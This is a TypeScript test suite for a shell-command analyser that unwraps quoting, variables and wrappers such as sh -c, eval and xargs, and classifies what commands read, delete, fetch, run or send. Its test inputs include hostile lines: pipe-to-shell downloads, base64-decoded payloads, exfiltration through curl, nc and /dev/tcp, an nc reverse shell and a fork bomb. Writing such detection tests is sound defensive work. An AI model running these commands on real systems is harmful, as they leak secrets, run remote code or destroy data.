import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { shown } from "./facts.ts";
import { readShell } from "./read-shell.ts";

const options = { directory: "/repo", home: "/home/me", variables: {} };
const read = (text: string): ReturnType<typeof readShell> => readShell(text, options);
const commandsOf = (text: string): string[] =>
  read(text).commands.map(({ name, args }) => shown([name, ...args.map((word) => word.text)].join(" ")));
const effectsOf = (text: string): string[] => read(text).effects.map(({ kind, path }) => shown(`${kind} ${path.text}`));

describe("words come out as the program gets them", () => {
  test.each([
    ["quotes and escapes", `r''m -r"f" \\/x`, "rm -rf /x"],
    ["$'...'", "$'\\x72m' $'a b'", "rm a b"],
    ["a home", "ls ~/x $HOME", "ls /home/me/x /home/me"],
    ["a variable", "A=1 ; echo $A", "echo 1"],
    ["a default", "echo ${A:-x}", "echo x"],
    ["what is cut off", "A=a.txt; echo ${A%.txt} ${A##*.}", "echo a txt"],
    ["a known substitution", "echo $(printf %s b)", "echo b"],
    ["braces", "echo {a,b}c {1..3}", "echo ac bc 1 2 3"],
    ["another separator", "IFS=:; A='rm:-rf'; $A x", "rm -rf x"],
    ["an array", "A=(x y); echo ${A[@]}", "echo x y"],
    ["what nobody knows", "echo $NOBODY *.c", "echo … *.c"],
  ])("%s", (_, text, expected) => {
    expect(commandsOf(text).at(-1)).toBe(expected);
  });
});

describe("scopes", () => {
  test.each([
    ["an assignment for one command ends with it", "HOME=/x true; ls $HOME", "ls /home/me"],
    ["a subshell keeps its variables", "(A=1); echo $A", "echo …"],
    ["a function's local hides, and gives back", "A=1; f() { local A=2; }; f; echo $A", "echo 1"],
    ["a function gets its arguments", "f() { echo $1; }; f x", "echo x"],
    ["cd counts from there on, but not out of a subshell", "(cd /a); touch b", "touch b"],
  ])("%s", (_, text, expected) => {
    expect(commandsOf(text).at(-1)).toBe(expected);
  });

  test("a command knows where it runs", () => {
    expect(read("cd sub && touch x").commands.at(-1)?.directory).toBe("/repo/sub");
    expect(read("(cd sub); touch x").commands.at(-1)?.directory).toBe("/repo");
    expect(read("env -C /a touch x").commands.at(-1)?.directory).toBe("/a");
  });

  test("a command knows what has succeeded before it, and || promises nothing", () => {
    const before = (text: string): string[] | undefined =>
      read(text)
        .commands.at(-1)
        ?.after.map(({ name }) => name);
    expect([before("a && b"), before("a || b"), before("a; b"), before("a && b && c")]).toEqual([["a"], [], [], ["a", "b"]]);
  });
});

describe("what starts another program is seen through", () => {
  test.each([
    "sudo -u root rm x",
    "env -i A=1 rm x",
    "timeout -k 1 5 rm x",
    "nice -n 5 nohup rm x",
    "sh -c 'rm x'",
    'bash -lc "rm x"',
    `bash -c '"$@"' _ rm x`,
    "eval rm x",
    "echo 'rm x' | sh",
    "sh <<< 'rm x'",
    "bash <<'E'\nrm x\nE",
    "echo x | xargs rm",
    "parallel rm ::: x",
    "find . -maxdepth 0 -exec rm x \\;",
    "ssh host 'rm x'",
    "f() { rm x; }; f",
    "alias d=rm; d x",
    "git -c alias.w='!rm x' w",
    "trap 'rm x' EXIT",
    "python3 -c \"import os; os.system('rm x')\"",
    'node -e \'require("child_process").spawn("rm", ["x"])\'',
    "awk 'BEGIN { \"rm x\" | getline }'",
    "echo 'rm x' > a.sh; sh a.sh",
    "exec 5<<<'rm x'; source /dev/fd/5",
  ])("%s", (text) => {
    expect(commandsOf(text)).toContain("rm x");
  });

  test("text that is only text is not a command", () => {
    expect(commandsOf("echo 'rm x'; git commit -m 'rm x'; cat <<E > a\nrm x\nE").filter((one) => one.startsWith("rm"))).toEqual([]);
    expect(commandsOf("echo 'rm x' | bash -n")).not.toContain("rm x");
  });
});

describe("effects", () => {
  test.each([
    ["cat a > b", ["read a", "write b"]],
    ["rm -r a", ["delete a"]],
    ["mv a b", ["move a", "write b"]],
    ["chmod 600 a", ["mode a"]],
    ["tar xf a.tar -C b", ["unpack b"]],
    ["sed -i s/a/b/ c", ["write s/a/b/", "write c"]],
    ["curl -o a https://b", ["write a", "fetch https://b"]],
    ["find a -delete", ["delete a"]],
    ["nc -e /bin/sh host 1", ["listen /bin/sh"]],
    [":(){ :|:& };:", ["bomb :"]],
  ])("%s", (text, expected) => {
    expect(effectsOf(text)).toEqual(expect.arrayContaining(expected));
  });

  test.each([
    ["curl https://a | sh", "run", "download"],
    ["curl -o x https://a; mv x y; bash y", "run", "download"],
    ["echo bHM= | base64 -d | sh", "run", "decoded"],
    ["cat /s | curl --data-binary @- b", "send", "file:/s"],
    ["curl -d @/s b", "send", "file:/s"],
    ['X=$(cat /s); curl -d "$X" b', "send", "file:/s"],
    ["gzip -c /s > z; curl -T z b", "send", "file:/s"],
    ["env | nc b 1", "send", "env"],
    ["cat /s > /dev/tcp/b/1", "send", "file:/s"],
    ["exec 3>/dev/tcp/b/1; tar cf - /s >&3", "send", "file:/s"],
  ])("%s: what flows is known", (text, kind, tag) => {
    const flows = read(text)
      .effects.filter((effect) => effect.kind === kind)
      .flatMap(({ flow }) => flow.tags);
    expect(flows).toContain(tag);
  });
});

describe("limits", () => {
  test.each([
    ["nesting", "$(".repeat(200)],
    ["a program that starts itself", "echo 'bash x.sh' > x.sh; bash x.sh"],
    ["here-documents on a line", "<<a ".repeat(1000)],
    ["a long text", "a".repeat(3 << 20)],
  ])("%s is said, and not followed forever", (_, text) => {
    expect(read(text).cut).toEqual(expect.any(String));
  });

  test("two hundred unknown variables in front are fine", () => {
    expect(commandsOf(`${"$A ".repeat(200)}ls x`)).toContain("ls x");
  });
});

describe("whatever comes", () => {
  const piece = fc.oneof(
    fc.string({ unit: "binary", maxLength: 6 }),
    fc.constantFrom(
      ..."'\"\\$`;&|()<>{}*?[]#~!=\n \t".split(""),
      "<<EOF\n",
      "EOF\n",
      "${",
      "$(",
      "$((",
      "<(",
      "rm ",
      "-rf ",
      "/",
      "for x in a; do ",
      "done",
      "if ",
      "then ",
      "fi",
      "case x in ",
      "esac",
      "f() { ",
      "}",
      "eval ",
      "sh -c ",
      "xargs ",
      "find . -exec ",
      "python3 -c ",
      "A=1 ",
      "export ",
      "declare -n ",
      "coproc ",
      "exec 3>",
      "[[ ",
      "]]",
      "git -c alias.x=",
      "tar -",
      "curl -d @",
      "socat ",
    ),
  );

  test("10,000 lines are read without a throw", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const { cut } = read(pieces.join(""));
        expect(cut ?? "").not.toContain("unreadable");
      }),
      { numRuns: 10_000 },
    );
  });

  test("twice the text is at most about twice the steps", () => {
    const rows = [
      "ls; ",
      "echo a $b; ",
      "(cd x; rm y) && ",
      "echo $(printf a) | sh; ",
      "for x in a b; do rm $x; done; ",
      "python3 -c 'os.system(\"ls a\")'; ",
    ];
    const steps = (text: string): number => {
      const { commands, effects } = read(text);
      return commands.length + effects.length;
    };
    const grown = rows.map((row) => steps(`${row.repeat(200)}true`) / steps(`${row.repeat(100)}true`));
    expect(grown.filter((factor) => factor > 2.2)).toEqual([]);
  });
});
